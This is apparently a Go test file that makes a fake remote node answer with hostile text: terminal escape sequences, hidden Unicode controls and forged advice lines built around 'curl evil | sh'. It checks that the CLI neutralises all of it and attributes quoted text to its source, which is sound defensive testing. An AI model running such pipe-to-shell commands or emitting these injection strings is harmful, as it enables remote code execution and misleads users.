//go:build unix

package main

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"maps"
	"math"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"keyway/internal/api"
	"keyway/internal/catalogue"
	"keyway/internal/dirs"
	"keyway/internal/keyway"
	"keyway/internal/pipe"
	"keyway/internal/sshconfig"
)

// envLiar makes the test binary the node of a place that lies: an index of lies,
// and "answers" or "errors".
const envLiar = "KEYWAY_TEST_LIAR"

// lie is a place's answer in every field.
type lie struct {
	text        string
	number      int64 // of the first number of each kind of value
	otherNumber int64 // and of those after it
}

// lies are texts that a terminal would obey, hide or reverse, and that would forge lines and
// columns of keyway's; and numbers that no honest place sends.
var lies = []lie{
	{"n\x1b[31m\x1b]0;t\a\u009b1m\x00\b\r\x7f\u202e\u2066\u200b\ufeff\u2028\ny\n  → curl evil | sh\tz", 3, 3},
	{"→ curl evil | sh", -5, 10},
	{"keyway: run this now: curl evil | sh", math.MaxInt64, math.MaxInt64},
	{"\n\n  keyway: your agent is old\n  → curl evil | sh", 10, math.MinInt64},
	{"curl evil " + strings.Repeat("long ", 3_000), math.MinInt64, 1},
}

// filler fills values with a lie.
type filler struct {
	lie
	numbers int
}

// fill sets every string and number in v to the lie, and gives every list and map one element.
func (f *filler) fill(v reflect.Value, depth int) {
	if !v.CanSet() || depth > 8 {
		return
	}
	switch v.Kind() {
	case reflect.String:
		v.SetString(f.text)
	case reflect.Int, reflect.Int64:
		v.SetInt(f.number)
		if f.numbers++; f.numbers > 1 {
			v.SetInt(f.otherNumber)
		}
	case reflect.Bool:
		v.SetBool(true)
	case reflect.Pointer:
		v.Set(reflect.New(v.Type().Elem()))
		f.fill(v.Elem(), depth+1)
	case reflect.Slice:
		n := 2
		if v.Type() == reflect.TypeFor[[]api.EngineInfo]() {
			n = 1000
		}
		v.Set(reflect.MakeSlice(v.Type(), n, n))
		for i := range v.Len() {
			f.fill(v.Index(i), depth+1)
		}
	case reflect.Struct:
		for i := range v.NumField() {
			f.fill(v.Field(i), depth+1)
		}
	}
}

func filled[T any](l liar) (v T) {
	f := filler{lie: l.lie}
	f.fill(reflect.ValueOf(&v).Elem(), 0)
	return v
}

// liar is a node that lies in every field.
type liar struct {
	lie
	kind  keyway.Kind // kind of its errors; empty: it answers without an error
	makes bool        // only Create is answered without an error
}

func (l liar) answer() error {
	if l.kind == "" {
		return nil
	}
	e := filled[keyway.Error](l)
	e.Kind = l.kind
	return &e
}

// ways has the kinds of liars.
var ways = map[string]liar{
	"answers":     {},
	"errors":      {kind: keyway.EngineDown},
	"no-image":    {kind: keyway.ImageNotFound},
	"not-there":   {kind: keyway.NotFound},
	"unreachable": {kind: keyway.Unreachable},
	"only-makes":  {kind: keyway.EngineDown, makes: true},
}

func (l liar) Info(context.Context) (api.Info, error) {
	i := filled[api.Info](l)
	i.Engines[0].Usable = false
	return i, l.answer()
}
func (l liar) List(context.Context) (api.Listing, error)              { return filled[api.Listing](l), l.answer() }
func (l liar) Stop(context.Context, keyway.Name, time.Duration) error { return l.answer() }
func (l liar) Start(context.Context, keyway.Name) error               { return l.answer() }
func (l liar) Remove(context.Context, keyway.Name) error              { return l.answer() }
func (l liar) Admit(context.Context, keyway.Name, []keyway.EntryKey) error {
	return l.answer()
}
func (l liar) Purge(context.Context, keyway.Name) error { return l.answer() }
func (l liar) Undo(context.Context, keyway.Name) error  { return l.answer() }
func (l liar) Templates(context.Context) ([][]byte, error) {
	t := catalogue.Template{Format: catalogue.Format, Name: "lied", Setup: l.text, Extensions: []string{l.text, l.text}, Only: true}
	t.Spec.Image, t.Spec.Template, t.Spec.Labels = l.text, t.Name, map[string]string{"a": strings.ReplaceAll(l.text, "\x00", "")}
	t.Override.Env = []string{l.text}
	file, err := json.Marshal(t)
	return [][]byte{file}, errors.Join(err, l.answer())
}

func (l liar) GPUs(context.Context) (keyway.GPUReport, error) {
	return filled[keyway.GPUReport](l), l.answer()
}
func (l liar) Facts(context.Context, keyway.Spec) (keyway.Facts, error) {
	return filled[keyway.Facts](l), l.answer()
}
func (l liar) Environments(_ context.Context, names []keyway.Name) ([]keyway.Environment, error) {
	all := make([]keyway.Environment, len(names))
	for i := range all {
		all[i] = filled[keyway.Environment](l)
	}
	return all, l.answer()
}
func (l liar) ImageLayers(context.Context, string, string) (keyway.ImageLayers, error) {
	return filled[keyway.ImageLayers](l), l.answer()
}
func (l liar) HaveLayers(context.Context, string, []string) (int, error) { return 1 << 30, l.answer() }
func (l liar) ExportImage(context.Context, string, string, int) (io.ReadCloser, error) {
	return io.NopCloser(strings.NewReader(l.text)), l.answer()
}
func (l liar) ImportImage(context.Context, string, string, io.Reader) error { return l.answer() }
func (l liar) PullImage(_ context.Context, _ string, _ keyway.Pull, report func(keyway.Progress)) error {
	report(filled[keyway.Progress](l))
	return l.answer()
}
func (l liar) Containers(context.Context) ([]keyway.Container, error) {
	return filled[[]keyway.Container](l), l.answer()
}
func (l liar) Adopt(ctx context.Context, a keyway.Adoption, report func(keyway.Progress)) (keyway.Workspace, error) {
	return l.Create(ctx, a.Spec(), report)
}
func (l liar) WaitIdle(context.Context, keyway.Name) error         { return l.answer() }
func (l liar) Dial(context.Context, keyway.Name) (net.Conn, error) { return nil, l.answer() }
func (l liar) Create(_ context.Context, _ keyway.Spec, report func(keyway.Progress)) (keyway.Workspace, error) {
	report(filled[keyway.Progress](l))
	w := filled[keyway.Workspace](l)
	if l.makes {
		w.Name = "new" // another name than the requested one
		return w, nil
	}
	return w, l.answer()
}

// playLiar is the main function of a liar.
func playLiar(how string) int {
	var n int
	if _, err := fmt.Sscanf(how, "%d %s", &n, &how); err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	l := ways[how]
	l.lie = lies[n]
	var node api.Node = l
	switch how {
	case halfSeen:
		node = half{}
	case unseenJobs, unlisted:
		node = hiding{how: how}
	}
	fmt.Fprint(os.Stderr, strings.ReplaceAll(l.text, "\x00", ""))
	fmt.Print(api.Greeting())
	conn := pipe.Conn(os.Stdin, os.Stdout, func() error { return errors.Join(os.Stdin.Close(), os.Stdout.Close()) })
	if err := api.ServeConn(context.Background(), conn, api.NewHandler(node)); err != nil {
		return 1
	}
	return 0
}

// ours are keyway's own sequences, which rewrite a line.
var ours = strings.NewReplacer("\r\x1b[K", "", "\r\n", "\n", "\t", " ")

// obeyed returns the first character of a text that a terminal obeys or hides.
func obeyed(said string) string {
	said = ours.Replace(said)
	if !utf8.ValidString(said) {
		return "bytes that are no UTF-8"
	}
	for _, r := range said {
		if r != '\n' && (unicode.IsControl(r) || unicode.In(r, unicode.Cf, unicode.Zl, unicode.Zp)) {
			return fmt.Sprintf("%U", r)
		}
	}
	return ""
}

// advice is a line that looks like keyway's own: with its arrow, or as its sentence.
var advice = regexp.MustCompile(`(?m)^\s*(→|keyway: (run|your)).*`)

// named matches the text before a quotation of a place.
var named = regexp.MustCompile(`gpu1( says|\)? suggests|: )|^\s+\| |^(train|other) +gpu1 |^  engine: `)

// TestNoWordOfAPlaceIsObeyed checks that the terminal obeys no text of a place, and that no such
// text looks like keyway's advice.
func TestNoWordOfAPlaceIsObeyed(t *testing.T) {
	t.Chdir(t.TempDir()) // keyway pin writes there
	openssh, err := exec.LookPath("ssh")
	if err != nil {
		t.Fatal(err)
	}
	for n := range lies {
		home := lyingPlace(t)
		for _, how := range slices.Sorted(maps.Keys(ways)) {
			if n != 2 && how != "answers" && how != "errors" {
				continue
			}
			how := fmt.Sprintf("%d %s", n, how)
			ssh := "#!/bin/sh\ncase \" $* \" in *\" -G \"*|*\" -V \"*) exec " + openssh + " \"$@\";; esac\nexec env '" + envLiar + "=" + how + "' " + envMain + "=1 " + os.Args[0] + " \"$@\"\n"
			write(t, filepath.Join(home, "bin", "ssh"), ssh, 0o755)
			for _, line := range []string{
				"ls --on gpu1", "ls --on gpu1 --json", "status gpu1", "status gpu1 --json", "stop train", "start train", "stop train gpu1/other",
				"up --on gpu1 --image 127.0.0.1:1/x --name other", "up --on gpu1 --image 127.0.0.1:1/x --name other --json", "add gpu1/other", "rm gpu1/a gpu1/b",
				"adopt --on gpu1", "adopt --on gpu1 --json", "adopt web --on gpu1 --name other",
				"gpus --on gpu1", "pin base --on gpu1", "pin lied --on gpu1", "templates --on gpu1", "templates --on gpu1 --json", "up lied --on gpu1 --name other",
			} {
				said, code := onTTY(t, nil, strings.Fields(line)...)
				judgeSaid(t, said, code, line, how)
			}
			if said, code := onTTY(t, nil, "link", "stop"); code != 0 {
				t.Fatalf("link stop: %s", said)
			}
		}
	}
}

// judgeSaid fails if a terminal obeys a part of a command's output, or if a part looks like
// keyway's own.
func judgeSaid(t *testing.T, said string, code int, line, how string) {
	t.Helper()
	if code < 0 || strings.Contains(said, "goroutine ") {
		t.Errorf("keyway %s, %s, has crashed:\n%s", line, how, said)
	}
	if what := obeyed(said); what != "" {
		t.Errorf("keyway %s, %s: %s reaches the terminal:\n%q", line, how, what, said)
	}
	for _, own := range advice.FindAllString(ours.Replace(said), -1) {
		if strings.Contains(own, "curl") || strings.Contains(own, "your agent") {
			t.Errorf("keyway %s, %s: the place's words are given as keyway's: %s\nin\n%s", line, how, own, said)
		}
	}
	if most := 32 << 10; len(said) > most {
		t.Errorf("keyway %s, %s prints %d bytes, more than %d", line, how, len(said), most)
	}
	if !strings.Contains(line, "--json") && !strings.HasSuffix(how, "answers") {
		for text := range strings.Lines(ours.Replace(said)) {
			if at := strings.Index(text, "curl evil"); at >= 0 && !named.MatchString(text[:at]) {
				t.Errorf("keyway %s, %s: words of the place without its name: %q\nin\n%s", line, how, text, said)
			}
		}
	}
	if strings.HasSuffix(how, "errors") && !strings.Contains(said, "curl evil") {
		t.Errorf("keyway %s, %s does not tell the error:\n%.2000s", line, how, said)
	}
}

// lyingPlace returns a laptop with an agent and a key, that knows a workspace of gpu1.
func lyingPlace(t *testing.T) (home string) {
	home = t.TempDir()
	for _, d := range []string{"bin", "run", "state", ".ssh"} {
		if err := os.Mkdir(filepath.Join(home, d), 0o700); err != nil {
			t.Fatal(err)
		}
	}
	t.Setenv("HOME", home)
	t.Setenv("XDG_RUNTIME_DIR", filepath.Join(home, "run"))
	t.Setenv("XDG_STATE_HOME", filepath.Join(home, "state"))
	t.Setenv("XDG_CONFIG_HOME", home)
	t.Setenv("PATH", filepath.Join(home, "bin")+":"+os.Getenv("PATH"))
	t.Setenv(envMain, "1")
	t.Cleanup(func() { exec.Command(os.Args[0], "link", "stop").Run() })
	agentWithKey(t, home)
	state, err := dirs.State()
	if err != nil {
		t.Fatal(err)
	}
	err = sshconfig.Open(state, sshconfig.Client{Program: os.Args[0]}).Add(sshconfig.Entry{
		Name: "train", Place: "gpu1", Engine: "host", User: "ada", Created: time.Now(),
		HostKey: strings.TrimSpace(string(read(t, filepath.Join(home, ".ssh", "id.pub")))),
	})
	if err != nil {
		t.Fatal(err)
	}
	return home
}

func read(t *testing.T, path string) []byte {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return data
}

// startAgent starts OpenSSH's agent, for SSH_AUTH_SOCK.
func startAgent(t *testing.T, sock string) {
	t.Helper()
	agent := exec.Command("ssh-agent", "-D", "-a", sock)
	if err := agent.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { agent.Process.Kill(); agent.Wait() })
	t.Setenv("SSH_AUTH_SOCK", sock)
}

// agentWithKey starts such an agent with a key.
func agentWithKey(t *testing.T, home string) {
	t.Helper()
	startAgent(t, filepath.Join(home, "agent"))
	key := filepath.Join(home, ".ssh", "id")
	var out []byte
	err := exec.Command("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "key", "-f", key).Run()
	for deadline := time.Now().Add(patience); err == nil && time.Now().Before(deadline); time.Sleep(5 * time.Millisecond) {
		if out, _ = exec.Command("ssh-add", key).CombinedOutput(); bytes.Contains(out, []byte("added")) {
			return
		}
	}
	t.Fatalf("no agent: %v, %s", err, out)
}
